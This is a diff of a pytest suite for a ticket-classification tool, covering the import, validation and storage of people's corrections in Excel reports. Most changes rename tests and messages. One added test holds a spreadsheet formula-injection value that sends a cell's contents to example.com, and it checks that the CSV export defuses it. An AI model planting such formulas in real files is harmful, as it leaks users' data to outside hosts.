@@ -1,4 +1,4 @@
-"""What a person corrects in a report comes back, and decides from then on."""
+"""Corrections that a person makes in a report are imported, and decide in later runs."""
 
 from __future__ import annotations
 
@@ -21,7 +21,7 @@ MELTED = {"request_category": "Other", "request_type": "General Inquiry", "confi
 
 
 def edit(report: Path, cells: Mapping[str, Any]) -> None:
-    """As a person does, in a program that writes the whole workbook anew."""
+    """Edit a report as a person does, in a program that writes the whole workbook again."""
     workbook = openpyxl.load_workbook(report)
     for cell, value in cells.items():
         workbook["Tickets"][cell] = value
@@ -60,7 +60,7 @@ def listed(cli: CLI) -> list[dict[str, str]]:
 
 
 class TestImport:
-    def test_three_corrections_are_three_and_a_second_import_none(self, cli: CLI, report: Path) -> None:
+    def test_three_corrections_are_imported_once(self, cli: CLI, report: Path) -> None:
         laptop = ("Hardware", "Laptop Repair")
         correct(report, T1=laptop, T3=laptop, T5=laptop)
         first = cli.ok("corrections", "import", str(report), "--by", "Ann")
@@ -72,7 +72,7 @@ class TestImport:
             ("T-5", "Laptop Repair", "Ann"),
         ]
 
-    def test_an_import_leaves_a_stage_file(self, cli: CLI, report: Path) -> None:
+    def test_an_import_writes_a_stage_file(self, cli: CLI, report: Path) -> None:
         correct(report, T1=("Hardware", "Laptop Repair"))
         path = Path(cli.ok("corrections", "import", str(report)).stdout.strip())
         stage = json.loads(path.read_text())
@@ -81,18 +81,18 @@ class TestImport:
         again = json.loads(Path(cli.ok("corrections", "import", str(report)).stdout.strip()).read_text())
         assert again["data"] == stage["data"]
 
-    def test_a_report_that_nobody_changed_says_nothing(self, cli: CLI, report: Path) -> None:
+    def test_an_unchanged_report_has_no_corrections(self, cli: CLI, report: Path) -> None:
         assert "0 corrections imported" in cli.ok("corrections", "import", str(report)).stderr
         assert listed(cli) == []
 
-    def test_an_unchanged_copy_takes_no_correction_back(self, cli: CLI, report: Path) -> None:
+    def test_an_unchanged_copy_does_not_take_back_a_correction(self, cli: CLI, report: Path) -> None:
         copy = cli.folder / "copy.xlsx"
         copy.write_bytes(report.read_bytes())
         correct(report, T1=("Hardware", "Laptop Repair"))
         cli.ok("corrections", "import", str(report))
         assert "0 corrections imported" in cli.ok("corrections", "import", str(copy)).stderr
 
-    def test_a_second_thought_is_added_and_the_first_stays_in_the_audit(self, cli: CLI, report: Path) -> None:
+    def test_a_second_choice_is_added_and_the_first_one_stays_in_the_list(self, cli: CLI, report: Path) -> None:
         for pair in (("Hardware", "Laptop Repair"), ("Hardware", "Stolen Device")):
             correct(report, T1=pair)
             cli.ok("corrections", "import", str(report))
@@ -103,12 +103,12 @@ class TestImport:
     @pytest.mark.parametrize(
         ("category", "request_type", "cell", "value"),
         [
-            ("Canteen", "Menu", "B", "'Canteen' is no category"),
-            ("Hardware", "Password Reset", "C", "'Password Reset' is no request type of Hardware"),
-            ("Hardware", None, "C", "an empty cell is no request type of Hardware"),
-            (None, None, "B", "an empty cell is no category"),
-            ("=1+1", "Menu", "B", "is no category"),
-            (42, "Menu", "B", "'42' is no category"),
+            ("Canteen", "Menu", "B", "'Canteen' is not a category"),
+            ("Hardware", "Password Reset", "C", "'Password Reset' is not a request type of Hardware"),
+            ("Hardware", None, "C", "the cell is empty, but must hold a request type of Hardware"),
+            (None, None, "B", "the cell is empty, but must hold a category"),
+            ("=1+1", "Menu", "B", "is not a category"),
+            (42, "Menu", "B", "'42' is not a category"),
         ],
     )
     def test_what_is_not_in_the_catalog_is_refused_by_its_cell_and_nothing_is_imported(
@@ -131,19 +131,19 @@ class TestImport:
         for line, row in zip(sheet.iter_rows(min_row=2), reversed(values), strict=True):
             for cell, value in zip(line, row, strict=True):
                 cell.value = value
-                # What was text stays text when a program moves it.
+                # Text stays text when a program moves it.
                 cell.data_type = "s" if isinstance(value, str) else cell.data_type
         workbook.save(report)
         cli.ok("corrections", "import", str(report))
         assert [one["ticket_id"] for one in listed(cli)] == ["T-1"]
 
-    def test_columns_sorted_apart_are_refused(self, cli: CLI, report: Path) -> None:
+    def test_columns_that_were_sorted_separately_are_refused(self, cli: CLI, report: Path) -> None:
         edit(report, {"A2": "T-3"})
         result = cli("corrections", "import", str(report))
         assert result.exit_code == 3
-        assert "B2: id and text of this row are those of another ticket" in result.stderr
+        assert "B2: the id and the text of this row belong to another ticket" in result.stderr
 
-    def test_a_row_of_no_ticket_and_a_row_twice_are_refused(self, cli: CLI, report: Path) -> None:
+    def test_a_row_without_a_ticket_and_a_duplicate_row_are_refused(self, cli: CLI, report: Path) -> None:
         workbook = openpyxl.load_workbook(report)
         sheet = workbook["Tickets"]
         sheet.append([cell.value for cell in sheet[2]])
@@ -151,10 +151,10 @@ class TestImport:
         workbook.save(report)
         result = cli("corrections", "import", str(report))
         assert result.exit_code == 3
-        assert "B7: the same ticket as row 2" in result.stderr
-        assert "B8: this row is none of the report" in result.stderr
+        assert "B7: the same ticket as in B2" in result.stderr
+        assert "B8: this row does not belong to the report" in result.stderr
 
-    def test_deleted_rows_and_columns_moved_do_no_harm(self, cli: CLI, report: Path) -> None:
+    def test_rows_may_be_deleted_and_columns_moved(self, cli: CLI, report: Path) -> None:
         correct(report, T1=("Hardware", "Laptop Repair"))
         workbook = openpyxl.load_workbook(report)
         sheet = workbook["Tickets"]
@@ -169,14 +169,14 @@ class TestImport:
         (cli.folder / "x.xlsx").write_bytes(content)
         result = cli("corrections", "import", "x.xlsx")
         assert result.exit_code == 3
-        assert "x.xlsx is no report of ours" in result.stderr
+        assert "x.xlsx is not a report of ticketattr" in result.stderr
 
-    def test_a_workbook_of_somebody_else_is_refused(self, cli: CLI) -> None:
+    def test_another_workbook_is_refused(self, cli: CLI) -> None:
         openpyxl.Workbook().save(cli.folder / "x.xlsx")
         assert cli("corrections", "import", "x.xlsx").exit_code == 3
         assert cli("corrections", "import", "missing.xlsx").exit_code == 3
 
-    def test_a_run_whose_files_are_gone_is_refused_and_can_be_given(self, cli: CLI, report: Path) -> None:
+    def test_a_run_without_its_files_is_refused_unless_they_are_given(self, cli: CLI, report: Path) -> None:
         correct(report, T1=("Hardware", "Laptop Repair"))
         (run,) = [path for path in (cli.folder / "work").iterdir() if path.is_dir()]
         run.rename(cli.folder / "elsewhere")
@@ -189,7 +189,7 @@ class TestImport:
         newest = max(path for path in (cli.folder / "work").iterdir() if path.is_dir())
         result = cli("corrections", "import", str(report), "-i", str(newest / "attributions.json"))
         assert result.exit_code == 3
-        assert "workbook and attributions are of different runs" in result.stderr
+        assert "workbook and attributions belong to different runs" in result.stderr
 
 
 class TestLaterRuns:
@@ -198,7 +198,7 @@ class TestLaterRuns:
         cli.ok("corrections", "import", str(report))
         cli.ok("run")
         table = rows(cli.reports[-1])
-        # T-3 came with a valid pair: a person's word beats that too.
+        # T-3 came with a valid pair, which a correction overrides, too.
         assert [(table[ticket]["request_type"], table[ticket]["source"]) for ticket in ("T-1", "T-3")] == [
             ("Laptop Repair", "corrected"),
             ("General Inquiry", "corrected"),
@@ -215,7 +215,7 @@ class TestLaterRuns:
         cli.ok("run")
         assert rows(cli.reports[-1])["T-1"]["source"] == "offline"
 
-    def test_a_corrected_pair_that_left_the_catalog_is_classified_anew(self, cli: CLI, report: Path) -> None:
+    def test_a_ticket_whose_corrected_pair_left_the_catalog_is_classified_again(self, cli: CLI, report: Path) -> None:
         correct(report, T1=("Hardware", "Stolen Device"))
         cli.ok("corrections", "import", str(report))
         catalog = (DATA / "catalog.yaml").read_text().replace("Stolen Device", "Lost Device")
@@ -224,7 +224,7 @@ class TestLaterRuns:
         cli.ok("run")
         assert rows(cli.reports[-1])["T-1"]["source"] == "offline"
 
-    def test_the_next_report_says_what_changed_by_it(self, cli: CLI, report: Path) -> None:
+    def test_the_next_report_names_the_corrected_ticket_as_changed(self, cli: CLI, report: Path) -> None:
         correct(report, T1=("Hardware", "Laptop Repair"))
         cli.ok("corrections", "import", str(report))
         cli.ok("run")
@@ -255,16 +255,14 @@ class TestExamples:
         found: list[dict[str, str]] = json.loads(after.split("\n")[0]) if after else []
         return found
 
-    def test_a_ticket_like_a_corrected_one_is_asked_about_with_that_as_an_example(
-        self, cli: CLI, model: HTTPServer
-    ) -> None:
+    def test_a_corrected_ticket_is_an_example_for_similar_tickets(self, cli: CLI, model: HTTPServer) -> None:
         cli.ok("run")
         assert [self.examples(request) for request in model.requests] == [[]]
         correct(cli.reports[0], T1=("Hardware", "Laptop Repair"))
         cli.ok("corrections", "import", str(cli.reports[0]))
         self.write_queue(cli, "Laptop fan is loud", "Badge beeps", "Fan of my laptop so loud")
         cli.ok("run")
-        # T-1 is decided, T-2 is no nearer to the correction than before and was answered: only T-3 is paid for.
+        # T-1 is decided; T-2 is not similar to the correction and has an answer; so the model is asked about T-3 only.
         (_, request) = model.requests
         assert [ticket["short_description"] for ticket in asked_tickets(request)] == ["Fan of my laptop so loud"]
         assert self.examples(request) == [
@@ -278,7 +276,7 @@ class TestExamples:
         cli.ok("run")
         assert len(model.requests) == 2
 
-    def test_a_new_correction_makes_tickets_like_it_asked_anew_and_no_others(self, cli: CLI, model: HTTPServer) -> None:
+    def test_a_new_correction_asks_again_only_about_similar_tickets(self, cli: CLI, model: HTTPServer) -> None:
         self.write_queue(cli, "Laptop fan is loud", "Badge beeps", "Fan of my laptop so loud")
         cli.ok("run")
         correct(cli.reports[0], T1=("Hardware", "Laptop Repair"))
@@ -286,7 +284,7 @@ class TestExamples:
         plan = cli.ok("classify", "--plan").stdout
         assert "1 corrected by a person, 0 keep their pair, 1 answered before, 1 different text to ask about" in plan
 
-    def test_rows_that_nobody_corrected_are_no_examples(self, cli: CLI, model: HTTPServer) -> None:
+    def test_uncorrected_rows_are_not_examples(self, cli: CLI, model: HTTPServer) -> None:
         cli.ok("run")
         cli.ok("corrections", "import", str(cli.reports[0]))
         self.write_queue(cli, "Laptop fan is so loud")
@@ -305,7 +303,7 @@ class TestExamples:
 
 
 class TestStore:
-    def test_nothing_in_it_can_be_changed_or_removed(self, cli: CLI, report: Path) -> None:
+    def test_corrections_cannot_be_changed_or_deleted(self, cli: CLI, report: Path) -> None:
         correct(report, T1=("Hardware", "Laptop Repair"))
         cli.ok("corrections", "import", str(report))
         with closing(sqlite3.connect("work/corrections.db")) as store:
@@ -314,7 +312,7 @@ class TestStore:
                     store.execute(statement)
         assert len(listed(cli)) == 1
 
-    def test_listing_makes_no_file(self, cli: CLI) -> None:
+    def test_listing_creates_no_file(self, cli: CLI) -> None:
         assert cli.ok("corrections", "list").stdout == "nothing was corrected\n"
         assert list(cli.folder.iterdir()) == []
 
@@ -325,10 +323,18 @@ class TestStore:
         (row,) = csv.DictReader(io.StringIO(cli.ok("corrections", "list", "--format", "csv").stdout))
         assert [row] == listed(cli)
 
+    def test_a_csv_list_holds_no_formula(self, cli: CLI, report: Path) -> None:
+        correct(report, T1=("Hardware", "Laptop Repair"))
+        formula = '=HYPERLINK("https://example.com/?leak="&A1,"look")'
+        cli.ok("corrections", "import", str(report), "--by", formula)
+        (row,) = csv.DictReader(io.StringIO(cli.ok("corrections", "list", "--format", "csv").stdout))
+        assert row["imported_by"] == f"'{formula}"
+        assert listed(cli)[0]["imported_by"] == formula, "JSON is for programs"
+
     @pytest.mark.parametrize(
         "content", [b"no database at all, but long enough to be looked at", b""], ids=["text", "empty"]
     )
-    def test_a_store_that_is_none_stops_a_run_or_is_made(self, cli: CLI, content: bytes) -> None:
+    def test_a_damaged_store_stops_a_run_and_an_empty_one_is_filled(self, cli: CLI, content: bytes) -> None:
         (cli.folder / "c.db").write_bytes(content)
         cli.settings["CORRECTIONS_DB_PATH"] = "c.db"
         result = cli("run")
@@ -343,8 +349,8 @@ class TestStore:
         assert result.exit_code == 3
         assert "CORRECTIONS_DB_PATH" in result.stderr
 
-    def test_it_is_for_its_owner_alone(self, cli: CLI, report: Path) -> None:
-        """It holds tickets."""
+    def test_only_the_owner_can_read_the_store(self, cli: CLI, report: Path) -> None:
+        """The store holds the text of tickets."""
         correct(report, T1=("Hardware", "Laptop Repair"))
         cli.ok("corrections", "import", str(report))
         assert (cli.folder / "work/corrections.db").stat().st_mode & 0o777 == 0o600
